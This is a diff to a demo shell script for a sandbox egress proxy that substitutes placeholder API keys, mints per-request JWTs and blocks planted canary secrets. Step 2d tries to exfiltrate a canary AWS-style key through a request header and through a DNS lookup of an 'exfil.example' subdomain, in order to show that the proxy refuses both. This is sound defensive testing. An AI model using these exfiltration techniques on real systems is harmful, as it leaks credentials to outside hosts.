@@ -108,6 +108,25 @@ echo "  what reached the upstream (its log; the echo to the guest shows only a h
 grep -o '"Authorization", "[^"]*"' "$WORK/upstream.log" | tail -1 | sed -E 's/(Bearer .{8})[^"]*/\1… (the resource'"'"'s token, shortened here)/; s/^/    /'
 echo "  the guest saw it? $($LAB exec g0 -- sh -c "$CURL -d a=1 https://api.stripe.com/v1/x" | grep -c sk_live || true) times"
 
+say "2b. A placeholder for SDKs that want a key: the guest's environment gets a stand-in (znctl session show)"
+PH=$($ZNCTL -j session show user-1 | python3 -c 'import json,sys; print(json.load(sys.stdin)["guest_env"]["STRIPE_API_KEY"])')
+echo "  STRIPE_API_KEY=$PH"
+in_guest "$CURL -w ' -> %{http_code}\\n' -d api_key=$PH https://api.stripe.com/v1/tokens"
+echo "  the body that reached api.stripe.com: $(grep -o '"body": "api_key=[^"]*"' "$WORK/upstream.log" | tail -1 | sed -E 's/(api_key=.{12})[^"]*/\1…/') (swapped for the real key)"
+in_guest "$CURL -w ' -> %{http_code}\\n' 'https://api.github.com/repos/x?key=$PH'"
+echo "  (the same placeholder headed for another host: refused, secret:misuse)"
+
+say "2c. A minted identity: api.github.com POST /repos/*/*/issues gets a JWT zerod signs for that one request"
+in_guest "$CURL -o /dev/null -w ' -> %{http_code}\\n' -d '{\"title\":\"hi\"}' https://api.github.com/repos/zeroness/zeroness/issues"
+JWT=$(grep -o '"Authorization", "Bearer eyJ[^"]*"' "$WORK/upstream.log" | tail -1 | sed -E 's/.*Bearer //; s/"$//')
+echo "  claims the upstream received (verifiable with znctl identity jwks):"
+echo "$JWT" | cut -d. -f2 | python3 -c 'import base64,json,sys; s=sys.stdin.read().strip(); print(json.dumps(json.loads(base64.urlsafe_b64decode(s + "=" * (-len(s) % 4))), indent=None))' | sed 's/^/    /'
+echo "  $($ZNCTL -j identity jwks | head -c 160)…"
+
+say "2d. A canary the operator planted: any appearance in egress is refused and raises secret:canary"
+in_guest "$CURL -w ' -> %{http_code}\\n' -H 'X-Aws-Key: AKIAZNDEMOCANARY0001' https://api.github.com/repos/x"
+in_guest 'dig akia-zn-demo.canary0001.exfil.example @8.8.8.8 +tries=1 +time=2 | grep -o "status: [A-Z]*"'
+
 say "3. Under default deny: api.stripe.com without its rule -> 403 default deny"
 grep -v 'api.stripe.com' examples/policy.json > "$WORK/no-stripe.json"
 $ZNCTL session update user-1 --policy "$WORK/no-stripe.json" > /dev/null
